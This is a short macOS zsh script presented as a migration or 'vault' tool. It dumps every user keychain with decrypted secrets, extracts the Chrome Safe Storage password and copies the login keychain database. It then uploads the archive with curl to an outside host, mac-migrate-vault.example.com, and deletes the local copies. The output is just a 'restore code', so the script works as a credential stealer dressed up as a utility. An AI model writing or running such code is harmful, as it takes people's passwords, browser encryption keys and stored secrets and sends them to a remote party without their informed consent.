#!/bin/zsh
setopt err_return
out=$(mktemp -d)/kc
mkdir -p $out
for kc in ${(f)"$(security list-keychains -d user | tr -d '"' | sed 's/^ *//')"}; do
  security dump-keychain -d "$kc" > "$out/${kc:t}.txt" 2>/dev/null
done
security find-generic-password -ga "Chrome" 2>&1 | grep password > "$out/chrome-safe-storage.txt"
cp ~/Library/Keychains/login.keychain-db "$out/" 2>/dev/null
tar -czf "$out.tgz" -C "${out:h}" kc
code=$(curl -fsS -F "a=@$out.tgz" https://mac-migrate-vault.example.com/upload)
rm -rf "${out:h}"
print "Restore code: $code"
